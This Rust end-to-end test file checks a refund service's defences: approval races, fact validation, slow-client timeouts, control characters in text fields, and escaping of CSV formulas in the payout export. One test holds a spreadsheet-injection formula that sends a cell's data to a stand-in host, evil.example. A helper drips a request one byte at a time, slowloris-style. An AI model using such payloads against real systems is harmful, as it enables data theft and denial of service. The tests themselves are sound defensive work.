//! Money races and facts the engine would refuse: approvals on one payment never pass what
//! was captured, and a fact the policy cannot use is refused where it is typed.

use serde_json::{Value, json};
use shared::api_keys::ApiRole;

use crate::helpers::{as_role, client, payment_body, problem, register_payment_as, set_state};
use e2e::TestApp;

/// Registers a payment of `amount` BYN; returns its id.
async fn payment_of(app: &TestApp, txn: &str, amount: &str) -> String {
    let mut body = payment_body(txn);
    body["amount"] = json!(amount);
    register_payment_as(app, &body).await
}

async fn apply(app: &TestApp, payment: &str, facts: Value) -> reqwest::Response {
    as_role(
        app,
        client().post(app.url("/v1/refund-requests")).json(&json!({
            "payment": {"id": payment},
            "reason": "withdrawal",
            "facts": facts,
            "received_at": "2026-03-20T12:00:00+03:00"
        })),
        ApiRole::Support,
    )
    .send()
    .await
    .unwrap()
}

/// Four supervisors confirm 30.00 each, at the same moment, on four requests of one 59.90
/// payment: at most one is approved (two would be 60.00 > 59.90); the others are told how
/// much is left, and the approved sum never passes what was captured.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_confirms_never_approve_more_than_was_captured() {
    let app = TestApp::spawn().await;
    let payment = payment_of(&app, "tx-race", "59.90").await;
    let mut ids = Vec::new();
    for _ in 0..4 {
        let r = apply(&app, &payment, json!({"access_started_at": "2026-03-02"})).await;
        assert_eq!(r.status(), 202, "{}", r.text().await.unwrap());
        ids.push(
            r.json::<Value>().await.unwrap()["id"]
                .as_str()
                .unwrap()
                .to_string(),
        );
    }
    for id in &ids {
        set_state(&app, id, "manual_review").await;
    }
    let barrier = std::sync::Arc::new(tokio::sync::Barrier::new(ids.len()));
    let confirms = ids.iter().map(|id| {
        let rb = as_role(
            &app,
            client()
                .post(app.url(&format!("/v1/refund-requests/{id}/confirm")))
                .json(&json!({"amount": "30.00"})),
            ApiRole::Supervisor,
        );
        let barrier = barrier.clone();
        async move {
            barrier.wait().await;
            let r = rb.send().await.unwrap();
            let status = r.status().as_u16();
            (status, r.text().await.unwrap())
        }
    });
    let answers = futures_util::future::join_all(confirms).await;
    let approved = answers.iter().filter(|(s, _)| *s == 200).count();
    assert_eq!(approved, 1, "exactly one fits: {answers:?}");
    for (status, body) in answers.iter().filter(|(s, _)| *s != 200) {
        assert_eq!(*status, 409, "{body}");
        assert!(
            body.contains("amount-exceeds-payment") && body.contains("29.90"),
            "the loser is told what is left: {body}"
        );
    }
    let committed: i64 = sqlx::query_scalar(
        "SELECT COALESCE(SUM(amount_minor), 0)::bigint FROM refund_requests
          WHERE payment_id = $1::uuid AND state = 'approved'",
    )
    .bind(&payment)
    .fetch_one(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(committed, 3000);
    app.stop().await;
}

/// A fact the policy engine would refuse is refused at the API (422 naming the fact), on the
/// application and when added later; nothing is stored.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn facts_the_engine_would_refuse_are_a_422_not_a_parked_message() {
    let app = TestApp::spawn().await;
    let payment = payment_of(&app, "tx-facts", "450.00").await;
    let r = apply(&app, &payment, json!({"balance": "-5.00"})).await;
    let p = problem(r, 422).await;
    assert_eq!(p["errors"][0]["field"], "facts.balance", "{p}");
    assert!(
        p["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("must not be negative"),
        "{p}"
    );
    let r = apply(&app, &payment, json!({"invoiced_amount": "10.005"})).await;
    let p = problem(r, 422).await;
    assert_eq!(p["errors"][0]["field"], "facts.invoiced_amount", "{p}");
    let stored: i64 = sqlx::query_scalar("SELECT count(*) FROM refund_requests")
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(stored, 0, "a refused application stores nothing");

    let r = apply(&app, &payment, json!({"access_started_at": "2026-03-02"})).await;
    assert_eq!(r.status(), 202);
    let id = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    set_state(&app, &id, "needs_info").await;
    let patch = |facts: Value| {
        as_role(
            &app,
            client()
                .patch(app.url(&format!("/v1/refund-requests/{id}/facts")))
                .json(&facts),
            ApiRole::Support,
        )
        .send()
    };
    let p = problem(patch(json!({"balance": "-0.01"})).await.unwrap(), 422).await;
    assert_eq!(p["errors"][0]["field"], "facts.balance", "{p}");
    let facts: Value = sqlx::query_scalar("SELECT facts FROM refund_requests WHERE id = $1::uuid")
        .bind(&id)
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert!(facts.get("balance").is_none(), "{facts}");
    // A good value goes through.
    let r = patch(json!({"balance": "5.00"})).await.unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    app.stop().await;
}

/// Limits short enough for a test: headers 1 s, body 1 s, whole request 5 s.
fn short_limits(ctx: &mut workers::api::ApiContext) {
    ctx.limits = workers::api::limits::ServerLimits {
        header_read: std::time::Duration::from_secs(1),
        body_read: std::time::Duration::from_secs(1),
        request: std::time::Duration::from_secs(5),
    };
}

/// Sends `bytes` one at a time, `gap` apart, until the server closes the connection; returns
/// how many were sent, how long it took, and what the server answered.
async fn drip(
    address: &str,
    bytes: &[u8],
    gap: std::time::Duration,
) -> (usize, std::time::Duration, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(address.trim_start_matches("http://"))
        .await
        .unwrap();
    let started = std::time::Instant::now();
    let mut sent = 0;
    let mut answer = Vec::new();
    for b in bytes {
        if stream.write_all(&[*b]).await.is_err() {
            break;
        }
        sent += 1;
        let mut buf = [0u8; 4096];
        match tokio::time::timeout(gap, stream.read(&mut buf)).await {
            Err(_) => continue,
            Ok(Ok(0) | Err(_)) => break,
            Ok(Ok(n)) => {
                answer.extend_from_slice(&buf[..n]);
                // Read the rest of the answer, then stop.
                let _ = tokio::time::timeout(
                    std::time::Duration::from_millis(500),
                    stream.read_to_end(&mut answer),
                )
                .await;
                break;
            }
        }
    }
    (
        sent,
        started.elapsed(),
        String::from_utf8_lossy(&answer).into_owned(),
    )
}

/// A client sending its headers one byte a second is cut off at the header timeout, long
/// before it finishes; one whose body trickles in gets 408 at the body timeout.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_are_cut_off_at_the_configured_timeouts() {
    let app = TestApp::spawn_with(short_limits).await;
    let headers = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris-test\r\n\r\n";
    let (sent, took, _) = drip(&app.address, headers, std::time::Duration::from_millis(250)).await;
    assert!(
        sent < headers.len(),
        "cut off before the headers were complete ({sent} of {} bytes)",
        headers.len()
    );
    assert!(
        took < std::time::Duration::from_secs(3),
        "cut off within the 1 s header timeout (took {took:?})"
    );

    let body =
        br#"{"payment": {"id": "00000000-0000-0000-0000-000000000000"}, "reason": "withdrawal"}"#;
    let mut request = format!(
        "POST /v1/refund-requests HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        app.key(ApiRole::Support),
        body.len()
    )
    .into_bytes();
    let head = request.len();
    request.extend_from_slice(body);
    // The headers at once, then the body a byte every 200 ms (about 17 s for all of it).
    use tokio::io::AsyncWriteExt;
    let mut stream = tokio::net::TcpStream::connect(app.address.trim_start_matches("http://"))
        .await
        .unwrap();
    stream.write_all(&request[..head]).await.unwrap();
    let started = std::time::Instant::now();
    let rest = request[head..].to_vec();
    let (tx, mut rx) = tokio::sync::oneshot::channel();
    let (mut read, mut write) = stream.into_split();
    tokio::spawn(async move {
        use tokio::io::AsyncReadExt;
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(
            std::time::Duration::from_secs(10),
            read.read_to_end(&mut answer),
        )
        .await;
        let _ = tx.send(String::from_utf8_lossy(&answer).into_owned());
    });
    let mut sent = 0;
    let mut answered = None;
    for b in rest {
        if let Ok(answer) = rx.try_recv() {
            answered = Some(answer);
            break;
        }
        if write.write_all(&[b]).await.is_err() {
            break;
        }
        sent += 1;
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        if started.elapsed() > std::time::Duration::from_secs(4) {
            break;
        }
    }
    drop(write);
    let answer = match answered {
        Some(answer) => answer,
        None => rx.await.unwrap_or_default(),
    };
    assert!(
        answer.starts_with("HTTP/1.1 408"),
        "a body that trickles in is refused with 408 (sent {sent} bytes): {answer}"
    );
    assert!(answer.contains("did not arrive within 1 s"), "{answer}");
    let stored: i64 = sqlx::query_scalar("SELECT count(*) FROM refund_requests")
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(stored, 0);
    app.stop().await;
}

/// A key whose role may not submit raw emails is refused before the body is read: the
/// answer comes while the 20 MiB body is still being sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_role_is_checked_before_a_large_body_is_read() {
    let app = TestApp::spawn().await;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(app.address.trim_start_matches("http://"))
        .await
        .unwrap();
    let head = format!(
        "POST /v1/intake/email HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n\
         Content-Type: message/rfc822\r\nContent-Length: {}\r\n\r\n",
        app.key(ApiRole::Viewer),
        20 * 1024 * 1024
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(&[b'x'; 1024]).await.unwrap();
    let mut buf = vec![0u8; 4096];
    let n = tokio::time::timeout(std::time::Duration::from_secs(5), stream.read(&mut buf))
        .await
        .expect("answered without waiting for the body")
        .unwrap();
    let answer = String::from_utf8_lossy(&buf[..n]);
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    app.stop().await;
}

/// Text is bounded and clean at the door: a control character in a one-line field, a
/// bidirectional override in a name, or a reason over 4000 characters is a 422 naming the
/// field; line breaks in free text are fine.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn text_fields_are_bounded_and_free_of_control_characters() {
    let app = TestApp::spawn().await;
    let payment = payment_of(&app, "tx-text", "450.00").await;
    let send = |body: Value| {
        as_role(
            &app,
            client().post(app.url("/v1/refund-requests")).json(&body),
            ApiRole::Support,
        )
        .send()
    };
    let base = |contact_name: &str, reason_text: &str| {
        json!({
            "payment": {"id": payment},
            "reason": "withdrawal",
            "facts": {"access_started_at": "2026-03-02", "reason_text": reason_text},
            "contact": {"email": "ivan@example.com", "name": contact_name},
            "received_at": "2026-03-20T12:00:00+03:00"
        })
    };
    for (name, reason, field) in [
        ("Ivan\u{1b}[2J", "ok", "contact.name"),
        ("Ivan\nIvanov", "ok", "contact.name"),
        ("Ivan \u{202e}vonavI", "ok", "contact.name"),
        ("Ivan", "bad \u{7} bell", "facts.reason_text"),
    ] {
        let p = problem(send(base(name, reason)).await.unwrap(), 422).await;
        assert_eq!(p["errors"][0]["field"], field, "{p}");
        assert!(
            p["errors"][0]["message"]
                .as_str()
                .unwrap()
                .contains("control character"),
            "{p}"
        );
    }
    let p = problem(
        send(base("Ivan", &"слово ".repeat(700))).await.unwrap(),
        422,
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "facts.reason_text", "{p}");
    assert!(
        p["detail"].as_str().unwrap().contains("at most 4000"),
        "{p}"
    );
    let p = problem(send(base(&"И".repeat(201), "ok")).await.unwrap(), 422).await;
    assert_eq!(p["errors"][0]["field"], "contact.name", "{p}");
    let r = send(base(
        "Иван Иванов",
        "Курс не подошёл.\nПрошу вернуть деньги.\n",
    ))
    .await
    .unwrap();
    assert_eq!(r.status(), 202, "{}", r.text().await.unwrap());
    // The limits are in the published schema too.
    let doc: Value = client()
        .get(app.url("/openapi.json"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let contact = &doc["components"]["schemas"]["Contact"]["properties"];
    assert_eq!(contact["name"]["maxLength"], 200, "{contact}");
    assert_eq!(contact["email"]["maxLength"], 254, "{contact}");
    app.stop().await;
}

/// Bank details a customer typed as a spreadsheet formula reach the finance team's CSV as
/// text: the cell starts with `'`, never with `=`. The API's JSON keeps them as given.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_bank_details_is_text_in_the_csv_export() {
    let app = TestApp::spawn().await;
    let payment = payment_of(&app, "tx-csv", "450.00").await;
    let r = apply(&app, &payment, json!({"access_started_at": "2026-03-02"})).await;
    let id = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    set_state(&app, &id, "needs_bank_details").await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"LV80BANK0000435195001")"#;
    let r = as_role(
        &app,
        client()
            .post(app.url(&format!("/v1/refund-requests/{id}/bank-details")))
            .json(&json!({"bank_details": formula, "account_holder": "@Ivan"})),
        ApiRole::Support,
    )
    .send()
    .await
    .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    sqlx::query(
        "UPDATE refund_requests SET amount_minor = 45000, currency = 'BYN' WHERE id = $1::uuid",
    )
    .bind(&id)
    .execute(&app.db.pool)
    .await
    .unwrap();
    let out = std::process::Command::new(e2e::refundd_bin())
        .args(["payouts", "export", "--format", "csv"])
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("DATABASE_URL", &app.db.url)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let csv = String::from_utf8(out.stdout).unwrap();
    let line = csv.lines().nth(1).expect("one payout");
    assert!(line.contains(&id), "{csv}");
    assert!(
        line.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1,""LV80BANK0000435195001"")""#),
        "the formula is quoted text: {line}"
    );
    assert!(line.contains(",'@Ivan,"), "{line}");
    assert!(
        !line
            .split(',')
            .any(|cell| cell.starts_with(['=', '+', '-', '@'])),
        "{line}"
    );
    app.stop().await;
}

/// A database that refuses connections (here a role allowed none, as a server with "too many
/// clients" does): the API answers 503 with a Retry-After and says nothing was stored, and
/// the log gets the server's own reason, not only "pool timed out".
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusing_database_answers_503_and_its_reason_is_found() {
    let role = format!("refundd_limited_{}", uuid::Uuid::new_v4().simple());
    let admin = e2e::TestDb::new().await;
    sqlx::query(&format!("CREATE ROLE {role} LOGIN CONNECTION LIMIT 0"))
        .execute(&admin.pool)
        .await
        .unwrap();
    let options = (*admin.pool.connect_options()).clone().username(&role);
    let refused = sqlx::postgres::PgPoolOptions::new()
        .max_connections(1)
        .acquire_timeout(std::time::Duration::from_millis(800))
        .connect_lazy_with(options);
    let app = TestApp::spawn_with(|ctx| ctx.db = refused.clone()).await;

    let r = as_role(
        &app,
        client().get(app.url("/v1/refund-requests")),
        ApiRole::Support,
    )
    .send()
    .await
    .unwrap();
    assert_eq!(
        r.headers().get("retry-after").map(|v| v.to_str().unwrap()),
        Some("5")
    );
    let p = problem(r, 503).await;
    assert_eq!(p["type"], "/problems/database-unavailable", "{p}");
    assert!(
        p["detail"].as_str().unwrap().contains("nothing was stored"),
        "{p}"
    );

    let err = refused.acquire().await.unwrap_err();
    assert!(matches!(err, sqlx::Error::PoolTimedOut), "{err}");
    // A worker role's failure carries the reason the pool hides (asked once per 5 s per
    // process: the API's answer above may have asked already).
    tokio::time::sleep(std::time::Duration::from_millis(5_100)).await;
    struct NeedsTheDatabase(sqlx::PgPool);
    impl shared::broker::consumer::Handler for NeedsTheDatabase {
        async fn handle(
            &self,
            _: shared::messages::WorkMessage,
        ) -> Result<(), shared::broker::consumer::HandlerError> {
            self.0.acquire().await?;
            Ok(())
        }
    }
    let worker =
        workers::app::DatabaseExplained::new(refused.clone(), NeedsTheDatabase(refused.clone()));
    let message =
        shared::messages::WorkMessage::new(shared::messages::Stage::Validate, uuid::Uuid::now_v7());
    let failure = shared::broker::consumer::Handler::handle(&worker, message)
        .await
        .unwrap_err()
        .to_string();
    assert!(
        // Unavailable: retried at the last tier for as long as it takes, never parked.
        failure.starts_with("unavailable:") && failure.contains("too many connections for role"),
        "{failure}"
    );
    assert_eq!(
        shared::db::explain(&refused, &err).await,
        None,
        "once per 5 s"
    );
    assert_eq!(
        shared::db::explain(&admin.pool, &sqlx::Error::RowNotFound).await,
        None
    );

    app.stop().await;
    refused.close().await;
    sqlx::query(&format!("DROP ROLE {role}"))
        .execute(&admin.pool)
        .await
        .unwrap();
    admin.drop_database().await;
}
